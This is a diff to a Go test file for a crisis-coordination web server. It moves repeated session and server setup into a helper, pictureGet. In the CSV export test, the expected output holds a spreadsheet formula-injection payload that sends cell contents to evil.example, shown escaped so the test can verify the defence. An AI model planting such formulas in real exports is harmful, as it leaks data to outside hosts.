@@ -774,25 +774,7 @@ func TestPictureCSVInDutch(t *testing.T) {
 			{Kind: "sitrep", Record: &pb.Record{Id: "b", Kind: "sitrep", Classification: pb.Classification_CONFIDENTIAL}},
 		},
 	}
-	kinds, err := record.NewKinds(record.DemoKinds())
-	if err != nil {
-		t.Fatal(err)
-	}
-	s, err := New(Config{UI: config.UI{Listen: "127.0.0.1:8080", SessionTTL: time.Hour,
-		OIDC: config.OIDC{Issuer: "https://login.a.example", ClientID: "k", Claim: "preferred_username"}},
-		Org: "a.crisis.test", Name: "a", Conn: peersConn{picture: pic}, Kinds: kinds, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
-		Resolve: func(id spiffeid.ID) (api.Caller, error) {
-			return api.Caller{ID: id, Roles: []api.Role{api.Reader}}, nil
-		}})
-	if err != nil {
-		t.Fatal(err)
-	}
-	id := s.sessions.create(&session{Person: spiffeid.RequireFromString("spiffe://a.crisis.test/user/olga"), Name: "olga",
-		AuthTime: time.Now(), Expires: time.Now().Add(time.Hour)})
-	r := httptest.NewRequest("GET", "/beeld/csv?crisis=oekraine&exercise=oef-1", nil)
-	r.AddCookie(&http.Cookie{Name: s.sessionCookie(), Value: id})
-	w := httptest.NewRecorder()
-	s.ServeHTTP(w, r)
+	w := pictureGet(t, pic, "/beeld/csv?crisis=oekraine&exercise=oef-1")
 	want := "\ufeffOEFENING;oef-1\nCode;Regio;Vrije opvangplaatsen\n" +
 		`"'=HYPERLINK(""http://evil.example/x?""&C3,""Zie"")";"'=HYPERLINK(""http://evil.example/x?""&C3,""Zie"")";1` + "\n" +
 		"VR09;VR09 Utrecht;3,5\nNL;Nederland (totaal);1234,25\n"
@@ -1231,25 +1213,7 @@ func TestPictureMarksStaleFigures(t *testing.T) {
 		Entries: []*pb.PictureEntry{entry("Zeist", "VR09", 600, false), entry("Houten", "VR09", 3*86400, true),
 			entry("Goes", "VR19", 60, false), entry("Hulst", "VR19", 30*3600, true)},
 	}
-	kinds, err := record.NewKinds(record.DemoKinds())
-	if err != nil {
-		t.Fatal(err)
-	}
-	s, err := New(Config{UI: config.UI{Listen: "127.0.0.1:8080", SessionTTL: time.Hour,
-		OIDC: config.OIDC{Issuer: "https://login.a.example", ClientID: "k", Claim: "preferred_username"}},
-		Org: "a.crisis.test", Name: "a", Conn: peersConn{picture: pic}, Kinds: kinds, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
-		Resolve: func(id spiffeid.ID) (api.Caller, error) {
-			return api.Caller{ID: id, Roles: []api.Role{api.Reader}}, nil
-		}})
-	if err != nil {
-		t.Fatal(err)
-	}
-	id := s.sessions.create(&session{Person: spiffeid.RequireFromString("spiffe://a.crisis.test/user/olga"), Name: "olga",
-		AuthTime: time.Now(), Expires: time.Now().Add(time.Hour)})
-	r := httptest.NewRequest("GET", "/?crisis=oekraine", nil)
-	r.AddCookie(&http.Cookie{Name: s.sessionCookie(), Value: id})
-	w := httptest.NewRecorder()
-	s.ServeHTTP(w, r)
+	w := pictureGet(t, pic, "/?crisis=oekraine")
 	page := w.Body.String()
 	for _, want := range []string{
 		`VR09 Utrecht</a> <span class="kp-tag kp-tag--warn">1 verouderd</span></th>`,
@@ -1266,4 +1230,29 @@ func TestPictureMarksStaleFigures(t *testing.T) {
 	if w.Code != http.StatusOK || !list.MatchString(page) || strings.Contains(page, ">Zeist</a> (VR09") {
 		t.Errorf("the picture: %d; want the stale Houten and Hulst named under the sums, oldest first, and not Zeist:\n%s", w.Code, page)
 	}
+}
+
+// pictureGet is what a reader of node a gets at path, with pic the node's picture of every crisis.
+func pictureGet(t *testing.T, pic *pb.PictureResponse, path string) *httptest.ResponseRecorder {
+	t.Helper()
+	kinds, err := record.NewKinds(record.DemoKinds())
+	if err != nil {
+		t.Fatal(err)
+	}
+	s, err := New(Config{UI: config.UI{Listen: "127.0.0.1:8080", SessionTTL: time.Hour,
+		OIDC: config.OIDC{Issuer: "https://login.a.example", ClientID: "k", Claim: "preferred_username"}},
+		Org: "a.crisis.test", Name: "a", Conn: peersConn{picture: pic}, Kinds: kinds, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
+		Resolve: func(id spiffeid.ID) (api.Caller, error) {
+			return api.Caller{ID: id, Roles: []api.Role{api.Reader}}, nil
+		}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	id := s.sessions.create(&session{Person: spiffeid.RequireFromString("spiffe://a.crisis.test/user/olga"), Name: "olga",
+		AuthTime: time.Now(), Expires: time.Now().Add(time.Hour)})
+	r := httptest.NewRequest("GET", path, nil)
+	r.AddCookie(&http.Cookie{Name: s.sessionCookie(), Value: id})
+	w := httptest.NewRecorder()
+	s.ServeHTTP(w, r)
+	return w
 }
